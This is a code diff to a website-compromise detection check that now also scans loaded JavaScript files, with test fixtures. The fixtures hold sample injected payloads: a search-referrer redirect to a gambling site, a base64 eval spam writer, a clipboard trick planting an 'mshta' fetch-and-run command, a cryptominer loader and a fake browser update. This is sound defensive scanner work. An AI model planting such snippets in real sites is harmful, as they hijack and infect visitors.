@@ -12,7 +12,9 @@ from checks import (
     Pages,
     Problem,
     Risk,
+    ScriptAnswers,
     ScriptDeed,
+    ScriptFiles,
     SiteViews,
     Text,
     Unknown,
@@ -66,7 +68,9 @@ _BY_DEED = {
     ScriptDeed.DECODES: DECODES, ScriptDeed.WRITES: WRITES, ScriptDeed.LEADS: LEADS, ScriptDeed.PASTES: PASTES, ScriptDeed.MINES: MINES, ScriptDeed.UPDATES: UPDATES,
 }  # fmt: skip
 _MOST = 20
-_REFERRER = "<script>if(/google|bing/.test(document.referrer)){location.href='https://slotmaju88.example/m'}</script>"
+_REFERRER_CODE = "if(/google|bing/.test(document.referrer)){location.href='https://slotmaju88.example/m'}"
+_REFERRER_INERT = "if(/google|bing/.test(document.referrer)){location.href='hxxps://slotmaju88[.]example/m'}"
+_REFERRER = f"<script>{_REFERRER_CODE}</script>"
 _DEVICE = "<script>if(/Android/.test(navigator.userAgent)){location.href='https://pembuat.example/m'}</script>"
 # document.write('slot gacor https://slotmaju88.example/')
 _HIDDEN = "<script>eval(atob('ZG9jdW1lbnQud3JpdGUoJ3Nsb3QgZ2Fjb3IgaHR0cHM6Ly9zbG90bWFqdTg4LmV4YW1wbGUvJyk='))</script>"
@@ -74,11 +78,16 @@ _ADVERTS = "<script>document.write('<a href=https://slotmaju88.example/>slot gac
 _PASTE = "<p>Verifikasi bahwa Anda manusia: tekan Windows + R, lalu Ctrl + V.</p><script>navigator.clipboard.writeText('mshta https://a.example/x')</script>"
 _MINE = "<script src=https://kolam.example/cryptonight.js></script><script>var c=new Client.Anonymous('a',{throttle:0.2})</script>"
 _UPDATE = "<div style='position:fixed'><h1>Update Chrome</h1><a href='https://unduh.example/Update.js' download>Update</a></div>"
+_LOADS = "<script src=/a.js></script>"
 _HONEST = "<script>document.write(atob('PGEgaHJlZj0ibWFpbHRvOmRpbmFzQGtvdGFjb250b2guZ28uaWQiPnN1cmVsPC9hPg=='));if(location.protocol!='https:'){location.href='/'}</script>"
 
 
 def _page(body: str) -> Exchange:
     return build.page((), f"<!doctype html><html lang=id><title>Dinas</title><body><a href=/layanan>Layanan</a>{body}</body></html>")
+
+
+def _file(code: str, status: int = 200) -> Exchange:
+    return build.page({"Content-Type": "text/javascript"}, code, status, "/a.js")
 
 
 def _example(problem: Problem, body: str, hosts: tuple[str, ...], excerpt: str) -> Example:
@@ -87,6 +96,7 @@ def _example(problem: Problem, body: str, hosts: tuple[str, ...], excerpt: str) 
         problem("/", path="/", hosts=hosts, excerpt=excerpt, sha256=page.final.body.sha256),
         pages=build.crawl(page),
         views=build.site_views(),
+        scripts=build.scripts(),
     )
 
 
@@ -112,29 +122,36 @@ def _example(problem: Problem, body: str, hosts: tuple[str, ...], excerpt: str) 
     ),
     references=("CWE-506", "OWASP Top 10 2025 A08", "MITRE ATT&CK T1189", "MITRE ATT&CK T1204.004"),
     bearing=bearing.COMPROMISE,
-    needs={"pages": Pages(), "views": Views()},
+    needs={"pages": Pages(), "views": Views(), "scripts": ScriptFiles()},
     problems=tuple(_BY_DEED.values()),
     examples=lambda: (
         _example(DECODES, _HIDDEN, ("slotmaju88[.]example",), "document.write('slot gacor hxxps://slotmaju88[.]example/')"),
         _example(WRITES, _ADVERTS, ("slotmaju88[.]example",), "<a href=hxxps://slotmaju88[.]example/>slot gacor maxwin</a> rtp live"),
-        _example(LEADS, _REFERRER, ("slotmaju88[.]example",), "if(/google|bing/.test(document.referrer)){location.href='hxxps://slotmaju88[.]example/m'}"),
+        _example(LEADS, _REFERRER, ("slotmaju88[.]example",), _REFERRER_INERT),
         _example(PASTES, _PASTE, (), "mshta hxxps://a[.]example/x')"),
         _example(MINES, _MINE, (), "client.anonymous(, throttle:"),
         _example(UPDATES, _UPDATE, ("unduh[.]example",), ""),
-        Example(pages=build.crawl(_page(_HONEST)), views=build.site_views()),
-        Example(reason=reason.ONE_SIGN, pages=build.crawl(_page(_DEVICE)), views=build.site_views()),
-        Example(reason=reason.NOT_HTML, outcome=Outcome.NOT_APPLICABLE, pages=build.crawl(build.file("/", "teks")), views=build.site_views()),
-        Example(reason=reason.RATE_LIMITED, pages=build.crawl(end_reason="rate-limited"), views=build.site_views()),
+        Example(pages=build.crawl(_page(_HONEST)), views=build.site_views(), scripts=build.scripts()),
+        Example(
+            LEADS("/a.js", path="/a.js", hosts=("slotmaju88[.]example",), excerpt=_REFERRER_INERT, sha256=_file(_REFERRER_CODE).final.body.sha256),
+            pages=build.crawl(_page(_LOADS)), views=build.site_views(), scripts=build.scripts(_file(_REFERRER_CODE)),
+        ),
+        Example(pages=build.crawl(_page(_LOADS)), views=build.site_views(), scripts=build.scripts(_file("var a = 1;"))),
+        Example(reason=reason.PARTLY_READ, pages=build.crawl(_page(_LOADS)), views=build.site_views(), scripts=build.scripts()),
+        Example(reason=reason.RATE_LIMITED, pages=build.crawl(_page(_LOADS)), views=build.site_views(), scripts=build.scripts(_file("<title>Sibuk</title>", 429))),
+        Example(reason=reason.PARTLY_READ, pages=build.crawl(_page("<script>location.href='/'</script>" * 70)), views=build.site_views(), scripts=build.scripts()),
+        Example(reason=reason.ONE_SIGN, pages=build.crawl(_page(_DEVICE)), views=build.site_views(), scripts=build.scripts()),
+        Example(reason=reason.NOT_HTML, outcome=Outcome.NOT_APPLICABLE, pages=build.crawl(build.file("/", "teks")), views=build.site_views(), scripts=build.scripts()),
+        Example(reason=reason.RATE_LIMITED, pages=build.crawl(end_reason="rate-limited"), views=build.site_views(), scripts=build.scripts()),
     ),
 )  # fmt: skip
-def compromise_script(pages: Crawl, views: SiteViews) -> Findings:
-    scripts = site_scripts(pages, views)
-    for page in scripts.pages[:_MOST]:
+def compromise_script(pages: Crawl, views: SiteViews, scripts: ScriptAnswers) -> Findings:
+    site = site_scripts(pages, views, scripts)
+    for page in site.pages[:_MOST]:
         for sign in {sign.deed: sign for sign in reversed(page.signs) if sign.firm}.values():
             yield _BY_DEED[sign.deed](page.path, path=page.path, hosts=sign.hosts, excerpt=sign.excerpt, sha256=page.sha256)
-    if doubtful := [(page.path, sign) for page in scripts.pages for sign in page.signs if not sign.firm]:
+    if doubtful := [(page.path, sign) for page in site.pages for sign in page.signs if not sign.firm]:
         raise Unknown(reason.ONE_SIGN, f"{doubtful[0][0]} {', '.join(doubtful[0][1].hosts)}")
-    if not scripts.whole:
-        raise Unknown(reason.PARTLY_READ)
+    site.require_read()
     require_whole(pages)
     require_views(views)
